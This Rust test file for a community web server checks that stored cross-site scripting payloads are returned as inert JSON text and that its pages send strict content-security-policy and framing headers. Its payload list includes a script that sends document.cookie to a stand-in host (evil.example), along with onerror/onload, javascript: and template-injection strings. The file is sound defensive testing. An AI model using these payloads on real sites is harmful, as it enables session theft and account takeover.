//! Scripts that somebody stores in a text: they come out as JSON text, and no page of this server runs them.

use serde_json::{Value, json};

use crate::actor::{Actor, text};
use crate::answer::Answer;
use crate::community::{Community, PASSWORD};
use crate::conversations::room::{Room, fresh};

/// Texts that a page which is put together carelessly would run.
const SCRIPTS: [&str; 6] = [
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</title><svg/onload=alert(1)>",
    "javascript:alert(1)//",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}<%= 7*7 %>",
    "--><!--]]>'\";</style><a href=\"data:text/html,<script>\">x",
];

/// Asserts that an answer is data: nothing that a browser would take for a page, or run.
#[track_caller]
fn assert_data(answer: &Answer) -> Value {
    let content_type = answer.header("content-type").unwrap();
    assert!(["application/json", "application/problem+json"].contains(&content_type), "{content_type}");
    assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(answer.header("content-security-policy"), Some("default-src 'none'; frame-ancestors 'none'"));
    answer.json()
}

#[actix_web::test]
async fn a_script_in_any_field_comes_out_as_the_text_that_it_is() {
    let community = Community::start().await;
    let (admin, ben) = (community.admin().await, community.member("ben").await);
    for (number, script) in SCRIPTS.iter().enumerate() {
        let short: String = script.chars().take(80).collect();
        let tag: String = script.chars().filter(|c| !c.is_whitespace()).take(30).collect();
        let newcomer = json!({"name": short, "email": format!("eve{number}@example.org"), "password": PASSWORD});
        let newcomer = ben.with("user-agent", *script).post("/auth/register", &newcomer).await;
        let eve = community.anonymous().signed_in(&assert_data(&newcomer));
        assert_data(&eve.patch("/me", &json!({"bio": script})).await);
        let new = json!({"title": script, "body": script, "categories": ["food"], "tags": [tag]});
        let post = text(&assert_data(&eve.post("/posts", &new).await)["id"]);
        let comment = eve.comment(&post, script).await;
        eve.reply(&post, &comment, script).await;
        eve.patch(&format!("/posts/{post}"), &json!({"title": "Mended"})).await.expect(200);
        let room = Room::group(&eve, &[&ben]).await;
        room.rename(&eve, &short).await;
        room.send(&eve, &json!({"client_id": fresh(), "text": script})).await.expect(201);
        admin.put_json(&format!("/categories/xss{number}"), &json!({"name": tag})).await;
        let handle = text(&eve.get("/me").await.expect(200)["handle"]);
        assert!(handle.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_'), "{handle}");
        for (reader, path, has) in [
            (&community.anonymous(), "/posts".to_owned(), script),
            (&community.anonymous(), format!("/posts/{post}"), script),
            (&ben, format!("/posts/{post}/history"), script),
            (&ben, format!("/posts/{post}/comments"), script),
            (&ben, format!("/users/{handle}"), &short.as_str()),
            (&ben, "/users?limit=50".into(), &short.as_str()),
            (&ben, "/categories".into(), &tag.as_str()),
            (&ben, room.path.clone(), &short.as_str()),
            (&ben, format!("{}/events", room.path), script),
            (&eve, "/auth/sessions".into(), script),
            (&eve, "/me".into(), script),
        ] {
            let answer = reader.get(&path).await;
            let written = serde_json::to_string(has).unwrap();
            let inside = written.trim_matches('"');
            assert!(
                assert_data(&answer)["status"].is_null() && answer.text().contains(inside),
                "{path}: {}",
                answer.text()
            );
        }
    }
    community.tidy().await;
}

#[actix_web::test]
async fn what_is_sent_back_in_a_refusal_is_data_too() {
    let community = Community::start().await;
    let ana = community.member("ana").await;
    for script in SCRIPTS {
        let encoded: String = script.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let nested = json!({"title": "x", "categories": [script], script: script});
        for answer in [
            ana.get(&format!("/posts?cursor={encoded}")).await,
            ana.get(&format!("/posts?sort={encoded}")).await,
            ana.get(&format!("/posts?limit={encoded}")).await,
            ana.get(&format!("/users/{encoded}")).await,
            ana.get(&format!("/{encoded}")).await,
            ana.at_root().get(&format!("/docs/{encoded}")).await,
            ana.at_root().get(&format!("/assets/{encoded}")).await,
            ana.post("/posts", &nested).await,
            ana.post_raw("/posts", script).await,
            ana.post("/posts", &json!({script: script, "title": {script: 1}})).await,
        ] {
            assert_data(&answer);
            assert!(answer.status >= 400, "{}", answer.text());
        }
    }
}

async fn page(actor: &Actor, path: &str) -> Answer {
    let answer = actor.at_root().get(path).await;
    assert_eq!(answer.status, 200, "{path}");
    answer
}

#[actix_web::test]
async fn the_pages_run_scripts_of_their_own_server_alone_and_stand_in_no_frame() {
    let community = Community::start().await;
    let ana = community.member("ana").await;
    let post = json!({"title": SCRIPTS[0], "body": SCRIPTS[1], "categories": ["food"]});
    let post = format!("/posts/{}", ana.publish_as(&post).await);
    for path in ["/", &post, "/docs/", "/docs/index.html", "/docs/errors"] {
        let is_app = !path.starts_with("/docs/");
        let answer = page(&ana, path).await;
        let policy = answer.header("content-security-policy").unwrap();
        let directives: Vec<_> = policy.split(';').map(str::trim).collect();
        let scripts = directives.iter().find(|directive| directive.starts_with("script-src"));
        let scripts = scripts.or_else(|| directives.iter().find(|directive| directive.starts_with("default-src")));
        assert!(["script-src 'self'", "default-src 'self'"].contains(scripts.unwrap()), "{path}: {policy}");
        for wanted in ["frame-ancestors 'none'", "base-uri 'none'"] {
            assert!(directives.contains(&wanted), "{path}: {policy}");
        }
        // The app makes no markup of text anywhere.
        for wanted in ["require-trusted-types-for 'script'", "trusted-types 'none'"].iter().filter(|_| is_app) {
            assert!(directives.contains(wanted), "{path}: {policy}");
        }
        assert_eq!(answer.header("x-frame-options"), Some("DENY"), "{path}");
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{path}");
        assert_eq!(answer.header("cross-origin-opener-policy"), Some("same-origin"), "{path}");
        // No page needs a script that stands in it.
        let page = answer.text().to_lowercase();
        for (at, _) in page.match_indices("<script") {
            let tag = page[at..].split('>').next().unwrap();
            assert!(
                tag.contains("src=\"/") || tag.contains("src=\"./") || tag.contains("type=\"application/json\""),
                "{path} has a script: {tag}"
            );
        }
        if is_app {
            // What people wrote stands in it, as text.
            assert!(
                page.contains("evil.example") && !page.contains("<img") && !page.contains("=\"javascript:"),
                "{page}"
            );
            continue;
        }
        assert!(!page.contains("javascript:") && !page.contains(" onload=") && !page.contains(" onclick="), "{path}");
    }
}
